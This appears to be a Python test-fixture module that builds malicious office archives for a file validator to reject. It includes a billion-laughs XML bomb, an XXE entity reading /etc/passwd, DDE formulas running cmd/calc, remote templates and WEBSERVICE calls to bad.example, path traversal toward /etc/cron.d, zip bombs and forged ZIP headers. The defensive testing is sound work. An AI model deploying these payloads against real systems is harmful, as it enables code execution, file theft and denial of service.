"""Office files for the tests: how they are made, and those that must not be taken."""

import io
import struct
import zipfile

import openpyxl

from tests.members.pictures import drawn, saved

TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
OVERRIDE = '<Override PartName="/{}" ContentType="application/vnd.openxmlformats-officedocument.{}.main+xml"/>'
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}'
    "</Relationships>"
)
MAIN = {
    "docx": ("word/document.xml", "wordprocessingml.document"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation"),
}
MANIFEST = '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">{}</m:manifest>'
ODF_TYPE = "application/vnd.oasis.opendocument.{}"


def relation(kind, target, mode=""):
    """One relationship of a part."""
    address = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    where = f' TargetMode="{mode}"' if mode else ""
    return f'<Relationship Id="r1" Type="{address}" Target="{target}"{where}/>'


def archive(parts, *, stored=("mimetype",), **options):
    """A ZIP archive of {name: content}."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content, compress_type=zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
        made.comment = options.get("comment", b"")
    return out.getvalue()


def office(kind, **parts):
    """A small DOCX, XLSX or PPTX; `parts` are added or put in place of others, with "/" and "." as they are."""
    main, name = MAIN[kind]
    return archive(
        {
            "[Content_Types].xml": TYPES.format(OVERRIDE.format(main, name)),
            "_rels/.rels": RELATIONS.format(relation("officeDocument", main)),
            main: "<w:document xmlns:w='w'><w:body><w:p><w:r><w:t>A worksheet</w:t></w:r></w:p></w:body></w:document>",
            **parts.get("parts", {}),
        },
        comment=parts.get("comment", b""),
    )


def odf(name="text", **parts):
    """A small ODT, ODS or ODP."""
    return archive(
        {
            "mimetype": ODF_TYPE.format(name),
            "content.xml": "<o:document-content xmlns:o='o'><t>A worksheet</t></o:document-content>",
            "META-INF/manifest.xml": MANIFEST.format(""),
            **parts.get("parts", {}),
        }
    )


def spreadsheet():
    """What openpyxl writes."""
    book, out = openpyxl.Workbook(), io.BytesIO()
    sheet = book.active
    sheet.append(["Year", "Apprentices"])
    sheet.append([2021, 12])
    sheet["C2"] = "=SUM(B2:B2)"
    sheet["A4"].hyperlink = "https://school.example/"
    book.save(out)
    return out.getvalue()


def hostile_archives():
    """{name: (bytes, code, or None where any will do)}."""
    docx, odt = office("docx"), odf()
    ole, program = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, b"MZ" + b"\x90" * 500
    external = "word/_rels/document.xml.rels"

    def leads(kind, target, name=external):
        return office("docx", parts={name: RELATIONS.format(relation(kind, target, "External"))})

    def with_part(name, content="x"):
        return office("docx", parts={name: content})

    laughs = "<!DOCTYPE x [<!ENTITY a 'ha'>{}]><x>&i;</x>".format(
        "".join(f"<!ENTITY {new} '{f'&{old};' * 10}'>" for old, new in zip("abcdefgh", "bcdefghi", strict=True))
    )
    return {
        "archive.zip": (archive({"a.txt": "x"}), "type"),
        "archive.docx": (archive({"a.txt": "x"}), "type"),
        "program library.docx": (archive({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe\xba\xbe"}), "type"),
        "book.odt": (archive({"mimetype": "application/epub+zip", "content.xml": "<x/>"}), "type"),
        "template.odt": (archive({"mimetype": ODF_TYPE.format("text-template"), "content.xml": "<x/>"}), "type"),
        "macros.docx": (with_part("word/vbaProject.bin", ole), "active"),
        "macros under another name.docx": (with_part("word/media/image1.png", ole), "active"),
        "macros by type.docx": (
            office(
                "docx",
                parts={
                    "[Content_Types].xml": TYPES.format(
                        '<Override PartName="/w" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
                    )
                },
            ),
            "active",
        ),
        "old macros.xlsx": (office("xlsx", parts={"xl/macrosheets/sheet1.xml": "<x/>"}), "active"),
        "object.docx": (with_part("word/embeddings/oleObject1.bin", ole), "active"),
        "control.docx": (with_part("word/activeX/activeX1.xml", "<x/>"), "active"),
        "program within.pptx": (office("pptx", parts={"ppt/media/film.mp4": program}), "active"),
        "script within.docx": (with_part("word/run.js", "alert(1)"), "active"),
        "page within.docx": (with_part("word/afchunk.html", "<script>1</script>"), "active"),
        "archive within.docx": (with_part("word/embeddings/x.zip", archive({"a": "b"})), "active"),
        "macros in a table within.pptx": (
            office("pptx", parts={"ppt/embeddings/a.xlsx": office("xlsx", parts={"xl/vbaProject.bin": ole})}),
            "active",
        ),
        "tables within tables.pptx": (
            office(
                "pptx", parts={"ppt/embeddings/a.xlsx": office("xlsx", parts={"xl/embeddings/b.xlsx": spreadsheet()})}
            ),
            "active",
        ),
        "template from elsewhere.docx": (
            leads("attachedTemplate", "http://bad.example/x.dotm", "word/_rels/settings.xml.rels"),
            "active",
        ),
        "picture from elsewhere.docx": (leads("image", "http://bad.example/pixel.png"), "active"),
        "object from elsewhere.docx": (leads("oleObject", "http://bad.example/x.html!"), "active"),
        "frame from elsewhere.docx": (leads("frame", "file://bad.example/share"), "active"),
        "program link.docx": (leads("hyperlink", "javascript:alert(1)"), "active"),
        "file link.docx": (leads("hyperlink", "file:///c:/windows/system32/cmd.exe"), "active"),
        "links to another.xlsx": (office("xlsx", parts={"xl/externalLinks/externalLink1.xml": "<x/>"}), "active"),
        "relations in wide letters.docx": (
            office(
                "docx",
                parts={
                    external: RELATIONS.replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
                    .format(relation("attachedTemplate", "http://bad.example/x", "External"))
                    .encode("utf-16")
                },
            ),
            "active",
        ),
        "dde.docx": (
            with_part("word/header1.xml", "<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\cmd</w:instrText>"),
            "active",
        ),
        "dde.xlsx": (office("xlsx", parts={"xl/worksheets/sheet1.xml": "<c><f>cmd|'/c calc'!A0</f></c>"}), "active"),
        "webservice.xlsx": (
            office("xlsx", parts={"xl/worksheets/s.xml": '<f>WEBSERVICE("http://bad.example")</f>'}),
            "active",
        ),
        "laughs.docx": (with_part("word/document2.xml", laughs), "active"),
        "laughing relations.docx": (with_part("word/_rels/x.xml.rels", laughs), "active"),
        "file by entity.docx": (
            with_part("docProps/x.xml", '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
            "active",
        ),
        "drawing with a program.docx": (with_part("word/media/i.svg", "<svg onload='alert(1)'/>"), "active"),
        "out of the folder.docx": (with_part("../../etc/cron.d/x.xml"), "two_in_one"),
        "from the root.docx": (with_part("/etc/x.xml"), "two_in_one"),
        "windows way out.docx": (with_part("word\\..\\..\\x.xml").replace(b"word/..", b"word\\.."), "two_in_one"),
        "drive.docx": (with_part("c:/x.xml"), "two_in_one"),
        "twice the same.docx": (_twice(docx), "two_in_one"),
        "comment.docx": (office("docx", comment=b"<script>alert(1)</script>"), "two_in_one"),
        "behind the archive.docx": (docx + b"<html><script>alert(1)</script>", None),
        "before the archive.docx": (b"PK\x03\x04" + b"\0" * 200 + docx, None),
        "between the parts.docx": (_with_gap(docx), "two_in_one"),
        "another name inside.docx": (docx.replace(b"_rels/.rels", b"_rels/.relx", 1), "two_in_one"),
        "wrong sum.docx": (_with_wrong_sum(docx), "damaged"),
        "cut.docx": (docx[: len(docx) // 2], "damaged"),
        "without its end.docx": (docx[:-22], "damaged"),
        "locked.docx": (_locked(docx), "encrypted"),
        "unknown packing.docx": (_repacked(docx, 99), "type"),
        "bomb.docx": (with_part("word/big.xml", b" " * 90_000_000), "bomb"),
        "more bombs.docx": (office("docx", parts={f"word/{n}.xml": b" " * 400_000 for n in range(400)}), "bomb"),
        "lying bomb.docx": (_lying(with_part("word/big.xml", b" " * 50_000_000), 50_000_000), "bomb"),
        "very many parts.docx": (archive({f"word/{n}.xml": "" for n in range(4000)}), "bomb"),
        "parts that overlap.docx": (_overlapping(docx), "two_in_one"),
        "macros.odt": (odf(parts={"Basic/Standard/Module1.xml": "<x/>"}), "active"),
        "python.odt": (odf(parts={"Scripts/python/x.py": "import os"}), "active"),
        "event.odt": (
            odf(parts={"content.xml": "<script:event-listener xlink:href='vnd.sun.star.script:x'/>"}),
            "active",
        ),
        "object.odt": (odf(parts={"Object 1": ole}), "active"),
        "applet.odt": (odf(parts={"content.xml": "<draw:applet/>"}), "active"),
        "dde.ods": (odf("spreadsheet", parts={"content.xml": "<office:dde-source/>"}), "active"),
        "share.odt": (odf(parts={"content.xml": '<draw:image xlink:href="file://bad.example/x.png"/>'}), "active"),
        "locked.odt": (odf(parts={"META-INF/manifest.xml": MANIFEST.format("<m:encryption-data/>")}), "encrypted"),
        "no list.odt": (archive({"mimetype": ODF_TYPE.format("text"), "content.xml": "<x/>"}), "damaged"),
        "picture before.odt": (saved(drawn(), "JPEG") + odt, None),
    }


# --- archives that lie -------------------------------------------------------------------------------------------


def _twice(data):
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as made:
        made.writestr("Word/Document.xml", "<x/>")
    return out.getvalue()


def _directory(data):
    """Where the directory begins."""
    return struct.unpack("<I", data[-6:-2])[0]


def _with_gap(data):
    """The first part is followed by something that no part holds."""
    at = data.index(b"PK\x03\x04", 4)
    gap = b"<html><script>alert(1)</script></html>"
    directory = _directory(data)
    moved = bytearray(data[:at] + gap + data[at:])
    end = directory + len(gap)
    struct.pack_into("<I", moved, len(moved) - 6, end)
    place = moved.find(b"PK\x01\x02", end)
    while place >= 0:
        offset = struct.unpack_from("<I", moved, place + 42)[0]
        if offset:
            struct.pack_into("<I", moved, place + 42, offset + len(gap))
        place = moved.find(b"PK\x01\x02", place + 4)
    return bytes(moved)


def _patched(data, offset, kind, value, which=0):
    """The directory's entry number `which`, with another value."""
    made, place = bytearray(data), _directory(data)
    for _n in range(which):
        place = made.find(b"PK\x01\x02", place + 4)
    struct.pack_into(kind, made, place + offset, value)
    return bytes(made)


def _with_wrong_sum(data):
    return _patched(data, 16, "<I", 12345)


def _locked(data):
    return _patched(data, 8, "<H", 1)


def _repacked(data, method):
    return _patched(data, 10, "<H", method)


def _overlapping(data):
    """Two entries of the directory lead to the same part."""
    place = data.find(b"PK\x01\x02", _directory(data) + 4)
    made = bytearray(data)
    struct.pack_into("<I", made, place + 42, 0)
    return bytes(made)


def _lying(data, size):
    """Both heads of the last part tell of a thousandth of its size."""
    return data.replace(struct.pack("<I", size), struct.pack("<I", size // 1000))
